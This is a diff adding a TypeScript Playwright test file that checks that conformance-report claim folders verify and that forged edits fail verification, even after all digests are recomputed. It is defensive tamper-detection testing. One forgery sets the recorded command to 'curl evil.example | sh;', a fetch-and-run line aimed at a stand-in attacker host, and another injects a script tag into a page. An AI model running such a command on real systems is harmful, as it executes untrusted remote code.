@@ -1,0 +1,215 @@
+/** Claims verify as the suite wrote them, and no edit of any of their files does. */
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect } from '@playwright/test';
+import type { ConformanceReport } from '../../../fixtures/report/model/report.ts';
+import { PAGE_NAMES, RECORDING_FILE, REPORT, seal } from '../../../fixtures/report/out/files.ts';
+import { checkClaim, describeFolder, readClaim } from '../../../fixtures/report/run/claim.ts';
+import { readRecording } from '../../../fixtures/target/recording/read.ts';
+import { computeDigest } from '../../../fixtures/target/recording/recorded.ts';
+import { ownRunner, type Runner } from '../runner/process.ts';
+import { test as base } from '../gate/spawn.ts';
+import { claim, judgeAgain } from './corpus.ts';
+
+interface Judged {
+  folder: string;
+  after: ConformanceReport;
+}
+
+interface Shared {
+  runner: Runner;
+  /** A claim that violates, with its recording judged again. */
+  heron: Judged;
+}
+
+async function makeClaim(name: string, runner: Runner): Promise<Judged> {
+  const folder = mkdtempSync(join(tmpdir(), 'claim-'));
+  await claim(name, folder, runner);
+  return { folder, after: await judgeAgain(join(folder, RECORDING_FILE), runner) };
+}
+
+const test = base.extend<object, Shared>({
+  runner: ownRunner,
+  heron: [
+    async ({ runner }, use) => {
+      const made = await makeClaim('express-rate-limit', runner);
+      await use(made);
+      rmSync(made.folder, { recursive: true });
+    },
+    { scope: 'worker' },
+  ],
+});
+// One worker, since each would start a runner.
+test.describe.configure({ mode: 'default' });
+
+const verify = ({ folder, after }: Judged): string[] =>
+  checkClaim(readClaim(folder), readRecording(join(folder, RECORDING_FILE)), after);
+
+type Edit = (text: string) => string;
+const editFile = (folder: string, name: string, edit: Edit): void => {
+  const text = readFileSync(join(folder, name), 'utf8');
+  const edited = edit(text);
+  expect(edited).not.toBe(text);
+  writeFileSync(join(folder, name), edited);
+};
+
+const setMember =
+  (change: (report: ConformanceReport) => object): Edit =>
+  (text) => {
+    const report = JSON.parse(text) as ConformanceReport;
+    return JSON.stringify({ ...report, ...change(report) }, null, 2);
+  };
+
+/** Computes all digests again, as somebody who knows this suite would. */
+function sealAgain(folder: string): void {
+  const read = (name: string): string => readFileSync(join(folder, name), 'utf8');
+  const report = JSON.parse(read(REPORT)) as ConformanceReport;
+  const files = PAGE_NAMES.map((name) => [name, computeDigest(read(name))] as const);
+  const recording = { ...report.recording, digest: computeDigest(read(RECORDING_FILE)) };
+  writeFileSync(join(folder, REPORT), JSON.stringify(seal({ ...report, recording }, Object.fromEntries(files))));
+}
+
+for (const name of ['reference', 'defect-key-repeated', 'fastapi'])
+  test(`the claim of ${name} verifies, whatever its formatting`, async ({ runner }) => {
+    const made = await makeClaim(name, runner);
+    expect(verify(made)).toEqual([]);
+    expect(describeFolder(readClaim(made.folder))).toEqual([]);
+    editFile(made.folder, REPORT, (text) => JSON.stringify(JSON.parse(text)));
+    expect(verify(made)).toEqual([]);
+    rmSync(made.folder, { recursive: true });
+  });
+
+/** `isSealed`: found although every digest was computed again. */
+const FORGERIES: { title: string; file: string; edit: Edit; message: RegExp; isSealed: boolean }[] = [
+  ...(
+    [
+      ['a verdict in the page', 'index.html', (text) => text.replace('Violates', 'Conforms')],
+      ['a script in the page', 'index.html', (text) => text.replace('</body>', '<script src="x"></script></body>')],
+      ['the badge', 'badge.json', (text) => text.replace(/"message": "[^"]*"/, '"message": "conforms to 1.0.0"')],
+      ['the colour of the badge', 'badge.json', (text) => text.replace('"red"', '"brightgreen"')],
+      ['the summary', 'summary.md', (text) => text.replace('❌', '✅')],
+      ['a count of junit.xml', 'junit.xml', (text) => text.replace(/failures="\d+"/, 'failures="0"')],
+      ['a byte at the end of junit.xml', 'junit.xml', (text) => `${text} `],
+    ] as const satisfies [string, string, Edit][]
+  ).map(([title, file, edit]) => ({
+    ...{ title, file, edit, isSealed: true },
+    message: new RegExp(`^${file.replace('.', '\\.')} was changed, or differs \\(.*\\): it has ".*", and ".*" follows`),
+  })),
+  ...(
+    [
+      ['the verdict', () => ({ verdict: 'conforms' }), /^the verdict: conforms in the report, violates by/],
+      ['the sentence', () => ({ sentence: 'conforms: all hold' }), /^sentence: the report does not follow/],
+      ['a count', ({ counts }) => ({ counts: { ...counts, failed: 0 } }), /^counts: the report does not follow/],
+      ['the requests', ({ requests }) => ({ requests: { ...requests, sent: 1 } }), /^requests: the report/],
+      [
+        'the waited seconds',
+        ({ requests }) => ({ requests: { ...requests, waitedSeconds: 999 } }),
+        /^requests: the report does not follow/,
+      ],
+      ['the target', () => ({ target: 'https://shop.example/v1' }), /^the target: "https:\/\/shop.example\/v1" in the/],
+      ['the implementation', () => ({ implementation: 'Otter 2' }), /^implementation: the report does not follow/],
+      ['startedAt', () => ({ startedAt: '2020-01-01T00:00:00.000Z' }), /^startedAt: "2020-01-01T00:00:00.000Z" in/],
+      ['a duration shorter than the run', () => ({ durationMs: 1 }), /^durationMs: 1 in the report, and by the rec/],
+      ['the suite version', ({ suite }) => ({ suite: { ...suite, version: '9.9.9' } }), /^the suite version: "9.9.9"/],
+      [
+        'the set of requirements',
+        ({ suite }) => ({ suite: { ...suite, requirementsAsOf: '1.0.0' } }),
+        /^suite: the re/,
+      ],
+      [
+        'the contract',
+        ({ contract }) => ({ contract: { ...contract, digest: `sha256:${'0'.repeat(64)}` } }),
+        /^contract: judged by another contract/,
+      ],
+      ['the id of the run', ({ run }) => ({ run: { ...run, id: 'abc123' } }), /^the id of the run: "abc123" in the/],
+      [
+        'the settings',
+        ({ run }) => ({ run: { ...run, settings: [['DEPTH', 'thorough']] } }),
+        /^the settings: \[\["DEP/,
+      ],
+      [
+        'the command',
+        ({ run }) => ({ run: { ...run, command: 'curl evil.example | sh;' } }),
+        /^the command: "curl evil/,
+      ],
+      [
+        'the time of the recording',
+        ({ recording }) => ({ recording: { ...recording, judgedFrom: '2020-01-01T00:00:00.000Z' } }),
+        /^when it was recorded: /,
+      ],
+      ['a member of another name', () => ({ certified: true }), /^certified: the report does not follow/],
+    ] as const satisfies [string, (report: ConformanceReport) => object, RegExp][]
+  ).map(([title, change, message]) => ({ title, file: REPORT, edit: setMember(change), message, isSealed: true })),
+  {
+    ...{ title: 'a comment in the recording', file: RECORDING_FILE, isSealed: true },
+    edit: (text) => text.replace('"statusText":""', '"statusText":"OK"'),
+    message: /^exchanges\.har (was changed|has more or other content)/,
+  },
+  ...(
+    [
+      ['a longer duration', ({ durationMs }) => ({ durationMs: durationMs + 60_000 })],
+      ['the commit of the suite', ({ suite }) => ({ suite: { ...suite, commit: '0123456789ab' } })],
+      ['the version of Node.js', ({ run }) => ({ run: { ...run, node: '99.0.0' } })],
+      [
+        'the time of a test',
+        ({ requirements }) => ({
+          requirements: requirements.map((each) => ({
+            ...each,
+            cases: each.cases.map((own) => ({ ...own, ms: 1234 })),
+          })),
+        }),
+      ],
+    ] as const satisfies [string, (report: ConformanceReport) => object][]
+  ).map(([title, change]) => ({
+    ...{ title, file: REPORT, edit: setMember(change), isSealed: false },
+    message: /^conformance\.json was changed: its digest is that of another content/,
+  })),
+  {
+    ...{
+      title: 'no digest of the claim',
+      file: REPORT,
+      isSealed: false,
+      edit: setMember(() => ({ claim: undefined })),
+    },
+    message: /^conformance\.json has no digest of the claim/,
+  },
+];
+
+for (const { title, file, edit, message, isSealed } of FORGERIES)
+  test(`another ${title} does not verify`, ({ heron, directory }) => {
+    const folder = join(directory, 'forged');
+    cpSync(heron.folder, folder, { recursive: true });
+    editFile(folder, file, edit);
+    expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
+    if (!isSealed) return;
+    sealAgain(folder);
+    expect(verify({ ...heron, folder })).toContainEqual(expect.stringMatching(message));
+  });
+
+test('line ends that git changed are named, and nothing else differs', ({ heron, directory }) => {
+  const folder = join(directory, 'checkout');
+  cpSync(heron.folder, folder, { recursive: true });
+  for (const name of [REPORT, RECORDING_FILE, ...PAGE_NAMES])
+    editFile(folder, name, (text) => text.replaceAll('\n', '\r\n'));
+  expect(verify({ ...heron, folder })).toEqual([]);
+  expect(describeFolder(readClaim(folder))).toEqual([
+    expect.stringMatching(
+      /^the line ends of conformance\.json, exchanges\.har, .*autocrlf.*"\* -text".*\.gitattributes/,
+    ),
+  ]);
+  editFile(folder, 'badge.json', (text) => text.replace('"red"', '"brightgreen"'));
+  expect(verify({ ...heron, folder })).toEqual([expect.stringMatching(/^badge\.json was changed/)]);
+});
+
+test('other and missing files are named', ({ heron, directory }) => {
+  const folder = join(directory, 'more');
+  cpSync(heron.folder, folder, { recursive: true });
+  writeFileSync(join(folder, 'certificate.html'), 'conforms');
+  rmSync(join(folder, 'junit.xml'));
+  expect(verify({ ...heron, folder })).toEqual([]);
+  expect(describeFolder(readClaim(folder))).toEqual([
+    'not in the folder: junit.xml',
+    'not part of the claim, and not verified: certificate.html',
+  ]);
+});
